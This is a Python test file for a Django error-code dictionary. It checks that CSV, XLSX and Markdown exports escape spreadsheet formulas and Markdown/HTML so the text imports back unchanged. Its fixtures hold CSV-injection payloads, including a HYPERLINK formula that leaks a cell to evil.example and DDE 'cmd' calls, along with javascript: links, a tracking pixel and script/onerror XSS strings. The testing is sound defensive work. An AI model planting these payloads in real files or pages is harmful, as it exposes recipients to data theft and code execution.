"""Hostile text in the files the dictionary leaves in: formulas, links, markup.

The admin's CSV/XLSX export and ``export_error_codes`` write files the README says to send to
a translator or a partner, who opens them in a spreadsheet or a Markdown viewer. Entry text is
typed by staff (or imported), so it must reach those programs as text, never as a formula, a
link or an image, and a file we wrote must import back to exactly the text it came from.
"""

import csv
import io
import re
from html import unescape

import openpyxl
import pytest
import tablib
from django.core.management import call_command
from django.urls import reverse
from markdown_it import MarkdownIt

from apierrors.models import ErrorCode, ErrorTranslation

from ..factories import ErrorCodeFactory, ErrorTranslationFactory

pytestmark = pytest.mark.django_db

IMPORT_URL = reverse("admin:apierrors_errorcode_import")
PROCESS_URL = reverse("admin:apierrors_errorcode_process_import")
EXPORT_URL = reverse("admin:apierrors_errorcode_export")
FORMATS = {"csv": 0, "json": 1, "xlsx": 2}

# What a spreadsheet would run (OWASP "CSV Injection"), and text that merely looks like it.
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "message": "+cmd|' /C calc'!A0 {thing}",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
}
HOSTILE_PL = {"title": "-2+3+cmd|' /C calc'!A0", "message": "\tTab {thing} first"}
HOSTILE_ES = {"title": "\rCarriage return", "message": "\uff1d1+1 {thing}"}  # full-width =
LOOKALIKE = {  # legitimate text that starts like an escaped cell: must survive unchanged
    "title": "'quoted' on purpose",
    "message": "- a list item, {thing}",
    "description": "'=not a formula, already quoted",
}
# With the full-width forms (U+FF1D = U+FF0B + U+FF0D - U+FF20 @).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.fixture
def hostile_entries():
    hostile = ErrorCodeFactory(key="hostile", error_code=7001, **HOSTILE)
    ErrorTranslationFactory(error=hostile, language="pl", **HOSTILE_PL)
    ErrorTranslationFactory(error=hostile, language="es", **HOSTILE_ES)
    lookalike = ErrorCodeFactory(key="lookalike", error_code=7002, **LOOKALIKE)
    return hostile, lookalike


def admin_export(admin_client, fmt: str) -> bytes:
    form = admin_client.get(EXPORT_URL).context["form"]
    fields = {name: "on" for name, f in form.fields.items() if f.initial is True}
    response = admin_client.post(EXPORT_URL, {"format": FORMATS[fmt], "resource": 0, **fields})
    assert response.status_code == 200, response.content[:500]
    return response.content


def admin_import(admin_client, content: bytes, fmt: str):
    upload = io.BytesIO(content)
    upload.name = f"dictionary.{fmt}"
    preview = admin_client.post(
        IMPORT_URL, {"import_file": upload, "format": FORMATS[fmt], "resource": 0}
    )
    assert preview.status_code == 200
    result = preview.context["result"]
    assert result is not None and not result.has_errors(), preview.context["form"].errors
    assert not result.has_validation_errors(), [
        (row.number, row.error_dict) for row in result.invalid_rows
    ]
    form = preview.context["confirm_form"]
    done = admin_client.post(PROCESS_URL, {**form.initial, "resource": 0}, follow=True)
    assert done.status_code == 200
    return done


def page_text(response) -> str:
    return unescape(re.sub(r"<[^>]+>", " ", response.content.decode()))


def scramble_texts() -> None:
    """Another environment / a later edit: the texts the file must bring back."""
    for entry in ErrorCode.objects.filter(key__in=["hostile", "lookalike"]):
        entry.title, entry.description = "changed", "changed"
        entry.message = "changed {thing}"
        entry.save()
    ErrorTranslation.objects.filter(error__key="hostile").update(title="x", message="x")


def assert_texts_restored() -> None:
    hostile = ErrorCode.objects.get(key="hostile")
    assert {f: getattr(hostile, f) for f in HOSTILE} == HOSTILE
    translations = {
        t.language: {"title": t.title, "message": t.message} for t in hostile.translations.all()
    }
    assert translations == {"pl": HOSTILE_PL, "es": HOSTILE_ES}
    lookalike = ErrorCode.objects.get(key="lookalike")
    assert {f: getattr(lookalike, f) for f in LOOKALIKE} == LOOKALIKE


# -- CSV -----------------------------------------------------------------------------------


def test_admin_csv_export_has_no_cell_a_spreadsheet_would_evaluate(admin_client, hostile_entries):
    content = admin_export(admin_client, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    by_key = {r[0]: r for r in rows}
    header = rows[0]
    hostile = dict(zip(header, by_key["hostile"], strict=True))
    # OWASP: a leading apostrophe, the text itself unchanged after it.
    assert hostile["title"] == "'" + HOSTILE["title"]
    assert hostile["message_pl"] == "'" + HOSTILE_PL["message"]
    assert hostile["message_es"] == "'" + HOSTILE_ES["message"]
    lookalike = dict(zip(header, by_key["lookalike"], strict=True))
    # Text that starts with an apostrophe is quoted too, or it could not come back exactly.
    assert lookalike["title"] == "''quoted' on purpose"
    assert hostile["error_code"] == "7001"


def test_admin_csv_export_imports_back_to_the_exact_text(admin_client, hostile_entries):
    content = admin_export(admin_client, "csv")
    scramble_texts()
    admin_import(admin_client, content, "csv")
    assert_texts_restored()


def test_csv_cells_written_by_hand_keep_their_apostrophe(admin_client):
    # Only the export's own escape (an apostrophe before = + - @ tab CR or another
    # apostrophe) is taken off; an apostrophe before anything else is the translator's text.
    data = tablib.Dataset(
        headers=["key", "error_code", "status", "title", "message", "fhir_code", "severity"]
    )
    data.append(["by_hand", 7003, 422, "'tis the season", "'=1+1 {thing}", "conflict", "error"])
    admin_import(admin_client, data.export("csv").encode(), "csv")
    entry = ErrorCode.objects.get(key="by_hand")
    assert (entry.title, entry.message) == ("'tis the season", "=1+1 {thing}")


# -- XLSX ----------------------------------------------------------------------------------


def test_admin_xlsx_export_stores_text_as_text_never_as_formulas(admin_client, hostile_entries):
    content = admin_export(admin_client, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active  # formulas as written
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    formulas = [c.coordinate for row in rows for c in row if c.data_type == "f"]
    assert formulas == []
    by_key = {row[0].value: dict(zip(header, row, strict=True)) for row in rows[1:]}
    title = by_key["hostile"]["title"]
    # The exact text, as a string cell that stays text when someone edits it.
    assert (title.value, title.data_type, title.quotePrefix) == (HOSTILE["title"], "s", True)
    assert by_key["hostile"]["message_es"].value == HOSTILE_ES["message"]
    assert by_key["lookalike"]["title"].value == LOOKALIKE["title"]
    assert by_key["hostile"]["error_code"].value == 7001  # numbers stay numbers


def test_admin_xlsx_export_imports_back_to_the_exact_text(admin_client, hostile_entries):
    content = admin_export(admin_client, "xlsx")
    scramble_texts()
    admin_import(admin_client, content, "xlsx")
    assert_texts_restored()


def test_json_export_is_left_as_it_is(admin_client, hostile_entries):
    # JSON is not opened by a spreadsheet: its text is written and read exactly as it is.
    import json

    content = admin_export(admin_client, "json")
    rows = {r["key"]: r for r in json.loads(content)}
    assert rows["hostile"]["title"] == HOSTILE["title"]
    assert rows["lookalike"]["title"] == LOOKALIKE["title"]
    scramble_texts()
    admin_import(admin_client, content, "json")
    assert_texts_restored()


# -- export_error_codes ------------------------------------------------------------------


def export(*args: str) -> str:
    out = io.StringIO()
    call_command("export_error_codes", *args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def test_export_command_csv_escapes_formulas(hostile_entries):
    rows = list(csv.DictReader(io.StringIO(export("--format", "csv"))))
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    hostile = next(r for r in rows if r["key"] == "hostile")
    assert hostile["title"] == "'" + HOSTILE["title"]
    assert hostile["description"] == "'" + HOSTILE["description"]
    polish = next(
        r
        for r in csv.DictReader(io.StringIO(export("--format", "csv", "--language", "pl")))
        if r["key"] == "hostile"
    )
    assert polish["message"] == "'" + HOSTILE_PL["message"]


def rendered(markdown: str) -> str:
    # CommonMark with raw HTML allowed and GFM tables: what a Markdown viewer does.
    # Its link check is off: some viewers have none, and we must not rely on one.
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True
    return md.render(markdown)


@pytest.mark.parametrize(
    "text",
    [
        "[click here](javascript:alert(document.cookie))",
        "![tracking pixel](https://evil.example/pixel.png)",
        "[ref link][1]\n\n[1]: javascript:alert(1)",
        "<https://evil.example/autolink>",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "&lt;script&gt; and &#106;avascript:",
        "`code` *bold* _em_ ~~strike~~ # heading | pipe",
    ],
)
def test_export_command_markdown_renders_text_never_links_images_or_html(text):
    ErrorCodeFactory(key="hostile_md", error_code=7010, title=text, message=text + " {thing}")
    table = export("--format", "markdown")
    html = rendered(table)
    row = next(r for r in html.split("<tr>") if "hostile_md" in r)
    cell = row.split("<td>")[-1].split("</td>")[0]
    title, message = cell.split("<br>")
    assert title.startswith("<strong>") and title.endswith("</strong>")  # our own markup
    title = title.removeprefix("<strong>").removesuffix("</strong>")
    # No tag at all is left in the entry's text: no link, image, script, emphasis...
    assert "<" not in title and "<" not in message, row
    # ...and what the reader sees is the entry's text, character for character.
    flat = text.replace("\n", " ")
    assert (unescape(title), unescape(message)) == (flat, flat + " {thing}")
